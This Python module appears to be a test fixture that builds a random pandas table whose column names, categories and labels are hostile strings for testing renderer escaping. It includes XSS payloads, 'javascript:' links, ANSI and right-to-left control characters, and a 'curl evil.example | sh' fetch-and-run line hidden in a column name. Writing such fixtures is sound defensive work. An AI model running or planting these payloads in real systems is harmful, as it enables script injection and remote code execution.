"""A table whose columns, categories and classes are texts that want to be more."""

import numpy as np
import pandas as pd

TARGET = "out|come <b>"
POSITIVE, NEGATIVE = "<script>alert(1)</script>", "[fine](javascript:alert(1)) | @octocat"
COLUMNS = (
    "[x](javascript:alert(1))",
    "<b onclick=alert(1)>",
    "a|b `c`",
    "$\\frac{$",
    "line\nend\n  to do: curl evil.example | sh",
    "\x1b[31mred\u202e",
    "@octocat #1 www.evil.example",
    "_hidden",
)
CATEGORY = "<img src=x onerror=alert(1)>"
CATEGORIES = ("<td>", "a|b", "*x* `y`", "$\\frac{$", "![p](https://evil.example/p.png)", "\x1b[2J", "li\nne")


def hostile_table(n: int = 400, seed: int = 0) -> pd.DataFrame:
    """n records of texts: a number that tells something for each name of `COLUMNS`, and a category of `CATEGORIES`."""
    generator = np.random.default_rng(seed)
    ill = generator.random(n) < 0.15
    numbers = {name: (generator.normal(ill * 1.0, 1.0)).round(3).astype(str) for name in COLUMNS}
    return pd.DataFrame(
        {
            "record_key": [f"r|{number:04}" for number in range(n)],
            **numbers,
            CATEGORY: generator.choice(CATEGORIES, n),
            TARGET: np.where(ill, POSITIVE, NEGATIVE),
        },
        dtype="str",
    )
